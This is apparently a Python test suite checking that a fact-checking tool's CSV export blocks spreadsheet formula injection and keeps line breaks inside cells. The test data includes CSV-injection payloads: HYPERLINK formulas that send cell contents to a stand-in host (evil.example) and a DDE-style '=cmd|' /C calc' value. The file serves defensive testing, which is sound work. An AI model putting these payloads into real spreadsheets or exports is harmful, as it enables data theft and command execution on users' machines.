"""The flags' CSV is safe to open in a spreadsheet: no cell can start a formula, and no line break
inside a note, a passage or a label can end a row early (which would start a fresh cell with
whatever follows it). Every file is read back with the csv module and checked cell by cell."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from crosscheck.core.flags import anchor_at, new_flag
from crosscheck.core.model import Source, Span
from crosscheck.io.export import flags_csv, flags_json
from crosscheck.io.project import Project, save
from tests.cli_run import run_cli

# What a spreadsheet takes for the start of a formula (OWASP CSV Injection; NUL from ASVS 1.2.10).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
HEADER = ["id", "category", "severity", "status", "note", "passages", "sources", "group", "finding", "orphaned",
          "created", "modified"]

# Invented reporting, written for these tests.
TEXT_A = "The ferry timetable changes on Monday, the operator said.\n\nFares rise by 4 per cent from May.\n"
TEXT_B = "From Monday the ferry runs to a new timetable.\n\nFares go up 4% in May, the operator said.\n"


def sources(outlet_a: str = "Ferry News", outlet_b: str = "Island Post") -> list[Source]:
    return [Source("s1", "a.txt", TEXT_A, outlet=outlet_a), Source("s2", "b.txt", TEXT_B, outlet=outlet_b)]


def rows_for(notes: list[str], **fields: str) -> tuple[list[Source], list[list[str]]]:
    srcs = sources()
    flags = [new_flag([anchor_at(srcs[0], Span(0, 10))], note=note, **fields) for note in notes]
    data = {"sources": [{"id": s.id, "label": s.outlet} for s in srcs], "flags": flags_json(flags, srcs)}
    text = flags_csv(data)
    return srcs, list(csv.reader(io.StringIO(text, newline="")))


def assert_safe(rows: list[list[str]]) -> None:
    assert rows[0] == HEADER
    for row in rows[1:]:
        assert len(row) == len(HEADER), row
        for cell in row:
            assert cell[:1] not in TRIGGERS, repr(cell)
            assert cell.lstrip()[:1] not in TRIGGERS, repr(cell)


def shown(note: str) -> str:
    """What the note's cell holds: the note, after a ' when a spreadsheet would run it."""
    return "'" + note if note[:1] in TRIGGERS or note.lstrip()[:1] in TRIGGERS else note


def test_every_dangerous_first_character_is_neutralised() -> None:
    notes = [f"{c}HYPERLINK(\"https://evil.example/?\"&A1,\"see\")" for c in TRIGGERS]
    notes += [" =1+1", "   @SUM(1,1)", "\u00a0-2+3", "\u3000+cmd", "\t =1", "=", "-", ""]
    _, rows = rows_for(notes)
    assert_safe(rows)
    assert [r[HEADER.index("note")] for r in rows[1:]] == [shown(n) for n in notes]
    assert [r[HEADER.index("note")][:1] for r in rows[1 : 1 + len(TRIGGERS)]] == ["'"] * len(TRIGGERS)


def test_harmless_cells_are_left_as_they_are() -> None:
    notes = ["fine", "a = b", "4 + 4", "e-mail", "x@example.org", "'quoted already", "\u201c=\u201d is a sign"]
    _, rows = rows_for(notes)
    assert [r[HEADER.index("note")] for r in rows[1:]] == notes


def test_line_breaks_inside_a_cell_stay_inside_it() -> None:
    notes = ["first line\r=1+1", "first line\n=1+1", "a\r\n@SUM(1)", "a\r\rb", "ends in\r", "\r\n-5"]
    _, rows = rows_for(notes, group_label="group\r=cmd|' /C calc'!A0", finding="finding\n+1")
    assert len(rows) == 1 + len(notes)  # a line break never ended a row
    assert_safe(rows)
    assert [r[HEADER.index("note")] for r in rows[1:]] == [shown(n) for n in notes]
    assert {r[HEADER.index("group")] for r in rows[1:]} == {"group\r=cmd|' /C calc'!A0"}
    assert {r[HEADER.index("finding")] for r in rows[1:]} == {"finding\n+1"}


def test_every_cell_is_quoted() -> None:
    srcs = sources()
    flags = [new_flag([anchor_at(srcs[0], Span(0, 10))], note="a\rb")]
    text = flags_csv({"sources": [{"id": s.id, "label": s.outlet} for s in srcs], "flags": flags_json(flags, srcs)})
    record = text.split("\n")[1]  # the row's \r is inside quotes, so splitting on \n alone finds the row
    assert record.startswith('"') and '"a\rb"' in record
    assert all(line == "" or (line.startswith('"') and line.endswith('"')) for line in text.split("\n"))


@settings(max_examples=60, deadline=None)
@given(notes=st.lists(st.text(alphabet=st.sampled_from([*TRIGGERS, " ", "\u00a0", "a", "1", ",", '"', "'", "|"]),
                              max_size=8), min_size=1, max_size=4))
def test_any_note_comes_back_exactly_and_inert(notes: list[str]) -> None:
    _, rows = rows_for(notes)
    assert len(rows) == 1 + len(notes)
    assert_safe(rows)
    assert [r[HEADER.index("note")] for r in rows[1:]] == [shown(n) for n in notes]


def test_a_project_exported_as_csv_by_the_command_is_safe(tmp_path: Path) -> None:
    srcs = sources(outlet_a="=Ferry News", outlet_b="@Island Post")
    flags = [new_flag([anchor_at(srcs[0], Span(0, 20)), anchor_at(srcs[1], Span(5, 30))],
                      note="check the date\r=HYPERLINK(\"https://evil.example\")", group_label="\t=1+1")]
    save(Project(srcs, reference="s1", flags=flags), tmp_path / "ferry.crosscheck")
    result = run_cli("compare", "ferry.crosscheck", "-q", "-o", "flags.csv", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    with (tmp_path / "flags.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 2
    assert_safe(rows)
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row["note"] == "check the date\r=HYPERLINK(\"https://evil.example\")"
    assert row["group"] == "'\t=1+1"
    assert "=Ferry News" in row["passages"] and "@Island Post" in row["sources"]
